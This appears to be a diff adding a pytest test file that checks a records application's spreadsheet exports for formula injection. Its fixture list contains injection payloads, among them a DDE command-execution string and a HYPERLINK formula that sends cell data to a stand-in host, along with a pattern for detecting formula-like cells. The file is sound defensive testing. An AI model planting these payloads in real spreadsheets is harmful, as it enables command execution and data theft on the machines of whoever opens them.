@@ -1,0 +1,108 @@
+"""No file for spreadsheets runs what somebody typed: neither as XLSX nor as CSV."""
+
+import csv
+import io
+import re
+import zipfile
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+import python_calamine  # noqa: TID253 a test may pay for it
+
+from app.bootstrap import Services
+from app.exchange.spreadsheets import Format
+from app.people.employees.domain import EmployeeDraft
+from app.people.units.domain import UnitDraft
+from app.registers.service_cards.domain import NeededDocument
+from tests.registers.service_cards.drafts import plain
+
+FORMULAS = (
+    "=1+1",
+    '=HYPERLINK("http://zly.example?"&A1;"x")',
+    "=cmd|' /C calc'!A0",
+    "+48 600 000 000",
+    "-1",
+    "@SUM(1)",
+    "\t=1",
+    "  =1",
+    "＝1+1",
+    "'=1",
+    "''=1",
+    "a;=1+1",
+    'a,=1+1,"=1"',
+    'a",=1',
+    "a\t=1+1",
+    "=1\n=2",
+    "%0A=1",
+    "|=1",
+)
+_RUNS = re.compile(r"\s*[=+\-@＝＋－＠]|[\t\r\n]")
+"""What some spreadsheet takes for a formula, at the beginning of a cell."""
+
+
+@pytest.fixture
+def filled(services: Services) -> Services:
+    """Every register with a formula in each text that takes one."""
+    unit = services.units.create(UnitDraft(symbol="SO", name=FORMULAS[0], room=FORMULAS[2], phone=FORMULAS[3])).record
+    for formula in FORMULAS:
+        services.employees.create(
+            EmployeeDraft(surname=formula, first_name=formula, post=formula, room=formula[:40], unit_id=unit.id)
+        )
+    for number, formula in enumerate(FORMULAS, start=1):
+        card = plain(unit.id, symbol=f"SO-{number:02d}")
+        services.cards.create(
+            replace(
+                card,
+                name=formula,
+                notes=formula,
+                purpose=formula,
+                synonyms=(formula,),
+                steps=(formula, formula),
+                documents=(NeededDocument(name=formula, note=formula),),
+                prepared_by=formula,
+            )
+        )
+    return services
+
+
+@pytest.fixture
+def files(filled: Services, tmp_path: Path) -> list[Path]:
+    """Every spreadsheet the program can write: the exchange of cards and the sheets of the whole data."""
+    for form in Format:
+        filled.exchange.export(tmp_path / f"karty.{form.value}", form)
+    filled.transfer.export_all(tmp_path / "wszystko")
+    found = [path for path in tmp_path.rglob("*") if path.suffix in (".csv", ".xlsx")]
+    assert len(found) >= 2 + 2 * 3
+    return found
+
+
+def test_no_workbook_holds_a_formula_or_a_link_and_each_text_comes_back(files: list[Path]) -> None:
+    for path in (path for path in files if path.suffix == ".xlsx"):
+        with zipfile.ZipFile(path) as package:
+            for part in package.namelist():
+                xml = package.read(part).decode("utf-8", "replace")
+                assert not re.search(r"<f[\s>/]|<hyperlink|externalLink|ddeLink|oleObject", xml), (path.name, part)
+            styles = package.read("xl/styles.xml").decode()
+            assert 'quotePrefix="1"' in styles, "editing such a cell must not make it a formula"
+        book = python_calamine.load_workbook(io.BytesIO(path.read_bytes()))
+        cells = [cell for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python() for cell in row]
+        expected = FORMULAS[:1] if "komorki" in path.name else (text for text in FORMULAS if text == text.strip())
+        assert set(expected) <= set(cells), path.name
+
+
+def test_no_cell_of_a_csv_file_begins_like_a_formula(files: list[Path]) -> None:
+    for path in (path for path in files if path.suffix == ".csv"):
+        rows = csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline=""), delimiter=";")
+        assert [cell for row in rows for cell in row if _RUNS.match(cell)] == [], path.name
+
+
+@pytest.mark.parametrize("form", Format)
+def test_defused_texts_come_back_as_they_were(filled: Services, tmp_path: Path, form: Format) -> None:
+    path = tmp_path / f"karty.{form.value}"
+    filled.exchange.export(path, form)
+    report = filled.exchange.load(path, dry_run=True)
+    # blanks around a text go, as in forms
+    blank = sum(text != text.strip() for text in FORMULAS)
+    assert (report.new, report.changed, report.refused) == (0, blank, ())
+    assert report.unchanged == len(FORMULAS) - blank
